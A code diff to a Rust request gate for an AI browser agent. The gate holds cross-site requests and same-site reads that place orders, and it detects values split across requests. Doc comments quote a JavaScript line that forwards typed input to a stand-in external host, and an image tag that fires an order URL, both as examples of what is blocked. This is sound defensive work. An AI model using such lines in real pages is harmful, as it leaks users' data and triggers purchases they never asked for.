@@ -9,9 +9,13 @@
 //! call reports what was blocked.
 //!
 //! A read (GET) is held too when it goes to another site than the page's
-//! with something in its address: it is graded for the user's values
-//! only, so a page that forwards what was typed into it (`new Image().src
-//! = "https://elsewhere/?v=" + value`) sends nothing unasked. The values
+//! (graded for the user's values in its address, host name, fragment and
+//! headers, and for an order in its address), so a page that forwards what
+//! was typed into it (`new Image().src = "https://elsewhere/?v=" + value`)
+//! sends nothing unasked; and on the page's own site when its address
+//! orders (`<img src=/order?qty=50&confirm=1>`: `gate::wire::read_acts`).
+//! A value split over requests to one other site is found joined
+//! (`gate::wire::SentElsewhere`). The values
 //! the user gave the page's own site in this action (typed, approved) may
 //! go back to that site.
 //!
@@ -46,7 +50,7 @@ use crate::error::{Error, ErrorCode, Result};
 use crate::gate::action::{Action, ElementFacts, SecretValue};
 use crate::gate::check::Checked;
 use crate::gate::check::Gate;
-use crate::gate::wire::{WireRequest, classify_request, not_given};
+use crate::gate::wire::{SentElsewhere, WireRequest, classify_request, classify_third_party, not_given};
 use crate::tools::PermissionScope;
 use crate::vocab::origin::same_site;
 
@@ -231,15 +235,20 @@ pub(super) async fn late(tab: &TabHandle, tool: BrowserTool) -> Result<()> {
     ))
 }
 
-/// A read worth holding: to another site than the page's (`home`), with
-/// something in its address that could be data (a query, or a path past
-/// a file name).
+/// A read worth holding: to another site than the page's (`home`), any
+/// (its address, host name, fragment or headers may carry the user's
+/// data); to the page's own site, one whose address orders
+/// (`gate::wire::read_acts`: `/order?qty=50&confirm=1`). Ordinary loads
+/// of the page's own site (documents, images, scripts, reads) go at once.
 fn carries_elsewhere(url: &str, home: &str) -> bool {
     let Ok(u) = url::Url::parse(url) else { return false };
-    if !matches!(u.scheme(), "http" | "https" | "ws" | "wss") || (!home.is_empty() && same_site(url, home)) {
+    if !matches!(u.scheme(), "http" | "https" | "ws" | "wss") {
         return false;
     }
-    u.query().is_some_and(|q| !q.is_empty()) || u.path().len() > 1
+    if home.is_empty() || !same_site(url, home) {
+        return true;
+    }
+    crate::gate::wire::read_acts(url).is_some()
 }
 
 /// What one action's requests are judged by, during the action and after
@@ -259,6 +268,8 @@ struct Judge {
     secrets: tokio::sync::OnceCell<Vec<SecretValue>>,
     /// Set once the action returned and the tab's watch judges alone.
     between: std::sync::atomic::AtomicBool,
+    /// What was sent to each other site, for values split over requests.
+    sent: Mutex<SentElsewhere>,
 }
 
 impl Judge {
@@ -280,12 +291,15 @@ impl Judge {
             approved: Mutex::new(approved),
             secrets: tokio::sync::OnceCell::new(),
             between: std::sync::atomic::AtomicBool::new(between),
+            sent: Mutex::default(),
         }
     }
 
     /// What becomes of one held request, and why, when it is blocked.
     async fn judge(&self, held: &Outgoing) -> (Verdict, Option<String>) {
-        let request = WireRequest::parse(&held.method, &held.url, held.content_type.as_deref(), held.body.as_deref());
+        let mut request =
+            WireRequest::parse(&held.method, &held.url, held.content_type.as_deref(), held.body.as_deref())
+                .with_headers(held.headers.clone());
         if let Ok(mut approved) = self.approved.lock()
             && approved.as_deref() == Some(request.binding().as_str())
         {
@@ -297,19 +311,31 @@ impl Judge {
         let page_url = self.page_url.lock().map(|p| p.clone()).unwrap_or_default();
         let page = (!page_url.is_empty()).then_some(page_url.as_str());
         let secrets = not_given(secrets, &self.given, &request.url, page);
-        // Between actions, what a page's scripts send to another site is a
-        // third party's business (analytics batches, whose field names say
-        // "message" or "order"), not the user's order at this site: it is
-        // checked for the user's values only. A form posted to another site
-        // (a page that orders at the shop through the agent's browser) is
-        // a navigation, never analytics: graded in full.
+        if !secrets.is_empty()
+            && let Ok(mut sent) = self.sent.lock()
+        {
+            // A value split over requests to one other site is found joined.
+            sent.join(&mut request, page);
+        }
+        // Between actions, what a page sends to another site is a third
+        // party's business (analytics batches, whose field names say
+        // "message" or "order"): it is graded by what it does only (an
+        // amount with a currency, a card, a payment API, a read that
+        // orders, the user's values), not by its words.
         let elsewhere = page.is_some_and(|p| !same_site(p, &request.url));
-        if self.between.load(std::sync::atomic::Ordering::SeqCst) && elsewhere && !held.opens() && !held.navigates {
-            let body = format!("{}\n{}", request.url, request.body);
-            if crate::gate::exfil::find_secrets(&body, &secrets).is_empty() {
-                return (Verdict::Continue, None);
-            }
-        } else if classify_request(&request, page, &secrets).scope < PermissionScope::Submit {
+        // A form posted to another site (a page that orders at the shop
+        // through the agent's browser) is a navigation, never analytics:
+        // graded in full.
+        let graded = if self.between.load(std::sync::atomic::Ordering::SeqCst)
+            && elsewhere
+            && !held.opens()
+            && !held.navigates
+        {
+            classify_third_party(&request, page, &secrets)
+        } else {
+            classify_request(&request, page, &secrets)
+        };
+        if graded.scope < PermissionScope::Submit {
             return (Verdict::Continue, None);
         }
         let shown = format!("{} {}", request.method, request.url);
@@ -317,7 +343,10 @@ impl Judge {
             tool: self.tool.name().to_owned(),
             declared: Some(PermissionScope::WriteNonDestructive),
             url: page.map(str::to_owned),
-            origin: page.and_then(crate::vocab::origin::origin_of),
+            // Where it goes: rules, the run's allowed origins and "always
+            // for this session" are the destination's, never the page's.
+            origin: crate::vocab::origin::origin_of(&held.url)
+                .or_else(|| page.and_then(crate::vocab::origin::origin_of)),
             target: Some(ElementFacts {
                 tag: "request".into(),
                 name: format!("the page's request {shown}"),
@@ -326,7 +355,8 @@ impl Judge {
                 ..ElementFacts::default()
             }),
             destination: Some(held.url.clone()),
-            page_total: request.amount(),
+            // The amount is read from the request itself (`confirm::amount_of`).
+            page_total: None,
             request: Some(request),
             ..Action::default()
         };
